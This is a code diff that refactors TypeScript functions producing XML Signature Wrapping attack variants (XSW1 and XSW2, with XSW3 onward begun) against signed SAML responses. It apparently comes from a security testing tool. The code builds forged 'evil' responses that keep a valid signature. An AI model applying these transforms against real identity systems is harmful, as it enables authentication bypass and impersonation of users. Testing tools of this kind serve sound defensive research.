@@ -24,30 +24,22 @@ export function evilize(assertion: Element, id = '_evil'): Element {
 
 const directSignature = (el: Element): Element => byName(el, DS, 'Signature').find((s) => s.parentNode === el)!;
 
+/** XSW1/XSW2: an evil Response (victim's assertion) carrying the signed original, unsigned copy placed by `place`. */
+function wrapSignedResponse(doc: Document, place: (evil: Element, signature: Element, copy: Element) => void): void {
+  const original = doc.documentElement!;
+  const evil = original.cloneNode(true) as Element;
+  evil.setAttribute('ID', '_evil-response');
+  evilize(byName(evil, A, 'Assertion')[0]!, '_evil-assertion');
+  const copy = original.cloneNode(true) as Element;
+  copy.removeChild(directSignature(copy));
+  place(evil, directSignature(evil), copy);
+  doc.replaceChild(evil, original);
+}
+
 /** XML Signature Wrapping variants as catalogued by SAML Raider (XSW1-2: Response signature, XSW3-8: Assertion signature). */
 export const XSW: Record<'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8', (doc: Document) => void> = {
-  XSW1(doc) {
-    const original = doc.documentElement!;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evil-response');
-    evilize(byName(evil, A, 'Assertion')[0]!, '_evil-assertion');
-    const signature = directSignature(evil);
-    const copy = original.cloneNode(true) as Element;
-    copy.removeChild(directSignature(copy));
-    signature.appendChild(copy);
-    doc.replaceChild(evil, original);
-  },
-  XSW2(doc) {
-    const original = doc.documentElement!;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evil-response');
-    evilize(byName(evil, A, 'Assertion')[0]!, '_evil-assertion');
-    const signature = directSignature(evil);
-    const copy = original.cloneNode(true) as Element;
-    copy.removeChild(directSignature(copy));
-    evil.insertBefore(copy, signature);
-    doc.replaceChild(evil, original);
-  },
+  XSW1: (doc) => wrapSignedResponse(doc, (_evil, signature, copy) => signature.appendChild(copy)),
+  XSW2: (doc) => wrapSignedResponse(doc, (evil, signature, copy) => evil.insertBefore(copy, signature)),
   XSW3(doc) {
     const response = doc.documentElement!;
     const original = byName(response, A, 'Assertion')[0]!;
